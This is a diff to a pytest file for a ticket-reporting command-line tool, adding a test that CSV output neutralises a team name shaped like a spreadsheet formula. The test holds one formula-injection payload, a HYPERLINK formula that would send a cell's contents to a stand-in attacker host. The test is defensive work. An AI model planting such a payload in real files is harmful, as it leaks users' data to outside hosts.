@@ -1,7 +1,7 @@
 """``intaked report service-level`` as an operator runs it, over the two-week scenario of
 tests/reports/scenario.py: each format's output (JSON the same document as ``build_report``,
-CSV one line per group, HTML escaping a hostile team name, text an aligned table with the
-figures), and wrong usage told with exit code 2."""
+CSV one line per group with a formula-like name kept as text, HTML escaping a hostile team
+name, text an aligned table with the figures), and wrong usage told with exit code 2."""
 
 from __future__ import annotations
 
@@ -79,6 +79,30 @@ def test_csv_has_one_line_per_group_and_the_total(config: Path, capsys: pytest.C
         and hostile["satisfaction_avg"] == ""
     )
     assert lines[3]["handled"] == "11" and lines[3]["sla_(untriaged)_triage_count"] == "2"
+
+
+def test_csv_shows_a_name_that_looks_like_a_formula_as_text(
+    db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A team name another tool wrote, starting like a spreadsheet formula, is led by an
+    apostrophe: opened in a spreadsheet it is text, not a formula that runs."""
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"desk")'
+    engine = make_engine(db_url)
+    try:
+        formulaic = {
+            "team": formula,
+            "status": "new",
+            "created_at": at(12, 10),
+            "triage_due_at": at(12, 10, 15),
+        }
+        load(engine, {**TICKETS, "F1": formulaic})
+    finally:
+        engine.dispose()
+    path = tmp_path / "formula.toml"
+    path.write_text(f'[database]\nurl = "{db_url}"\n[logging]\nlevel = "warning"\n', encoding="utf-8")
+    groups = [line["group"] for line in csv.DictReader(io.StringIO(run(path, capsys, "--format", "csv")))]
+    assert "'" + formula in groups and formula not in groups
+    assert {"desk", "network", "all"} <= set(groups), "other names as they are"
 
 
 def test_html_is_self_contained_and_escapes_names_from_the_database(
